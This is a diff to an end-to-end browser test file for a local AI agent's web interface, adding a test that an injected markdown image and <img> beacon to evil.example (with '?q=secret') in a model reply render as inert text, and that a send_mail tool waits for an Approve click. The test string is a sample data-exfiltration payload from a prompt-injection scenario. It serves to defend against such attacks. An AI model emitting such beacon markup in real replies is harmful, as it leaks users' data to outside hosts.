@@ -20,6 +20,9 @@ import soundfile
 import uvicorn
 from PIL import Image
 
+from langchain_core.tools import StructuredTool
+from pydantic import BaseModel
+
 from agent.config import AgentConfig
 from agent.runtime import Runtime
 from agent.server import create_app
@@ -81,7 +84,7 @@ def test_upload_ask_and_see_the_answer_with_generated_media(tmp_path, tiny_profi
         page.wait_for_selector("#meta:has-text('signalgraph-tiny')")
 
         page.set_input_files("#file", [str(photo), str(memo)])
-        page.fill("#input", "What is in this photo? Draw another one.")
+        page.fill("#input", "What is in this photo? Draw another one, and make a beep sound.")
         page.click("#send")
         reply = page.wait_for_selector(".msg.assistant.done", timeout=180_000)
 
@@ -130,5 +133,56 @@ def test_the_page_asks_for_the_api_key_once_and_sends_it_for_media_too(tmp_path,
         page.reload()
         page.wait_for_selector(".msg.assistant img.generated")
         assert len(asked) == 1 and "API key" in asked[0]
+        page.close()
+    runtime.close()
+
+
+def test_a_reply_that_links_elsewhere_fetches_nothing_and_an_action_waits_for_approve(tmp_path, tiny_profile,
+                                                                                        browser):
+    """A note slipped a remote image and a beacon into the reply: the page shows them as text and the
+    browser requests nothing outside this server (its Content-Security-Policy forbids it too). Then a
+    tool that needs confirmation waits for the Approve button."""
+    outbox = tmp_path / "outbox.txt"
+
+    class MailArgs(BaseModel):
+        to: str
+
+    mail = StructuredTool.from_function(lambda to: outbox.write_text(to) and {"sent": to}, name="send_mail",
+                                        description="Send an email.", args_schema=MailArgs,
+                                        metadata={"effect": "acts", "confirm": True})
+    evil = ('Parking is north. ![logo](https://evil.example/collect?q=secret) '
+            '<img src="https://evil.example/beacon.png">')
+    thinker = ScriptedThinker(ThinkResult(evil, raw=evil),
+                              ThinkResult("", [{"id": "m1", "name": "send_mail", "args": {"to": "bob@example.com"}}]),
+                              ThinkResult("Sent to bob@example.com."))
+    runtime = Runtime(AgentConfig(data_dir=tmp_path / "data", allowed_dirs=[tmp_path]), tiny_profile,
+                      thinker=thinker)
+    runtime._tools["web"] = [mail]
+    with running(create_app(runtime)) as url:
+        page = browser.new_page()
+        page.add_init_script("localStorage.setItem('signalgraph.session', 'web')")
+        requests: list[str] = []
+        page.on("request", lambda request: requests.append(request.url))
+        response = page.goto(url)
+        assert "img-src 'self'" in response.headers["content-security-policy"]
+        page.wait_for_selector("#meta:has-text('signalgraph-tiny')")
+        page.fill("#input", "Where do visitors park?")
+        page.click("#send")
+        reply = page.wait_for_selector(".msg.assistant.done", timeout=60_000)
+        text = reply.query_selector(".text").inner_text()
+        assert "https://evil.example/collect?q=secret" in text and "![" not in text
+        assert not reply.query_selector("img")
+
+        page.fill("#input", "Send a mail to bob@example.com.")
+        page.click("#send")
+        page.wait_for_selector(".msg.assistant.done >> nth=1")
+        asked = page.query_selector_all(".msg.assistant.done")[1]
+        assert "Shall I run send mail" in asked.inner_text() and not outbox.exists()
+        asked.query_selector(".answer button:has-text('Approve')").click()
+        page.wait_for_selector(".msg.assistant.done >> nth=2")
+        assert outbox.read_text() == "bob@example.com"
+        assert "Sent to bob@example.com." in page.inner_text("#log")
+        page.wait_for_timeout(300)
+        assert all(u.startswith(url) for u in requests), [u for u in requests if not u.startswith(url)]
         page.close()
     runtime.close()
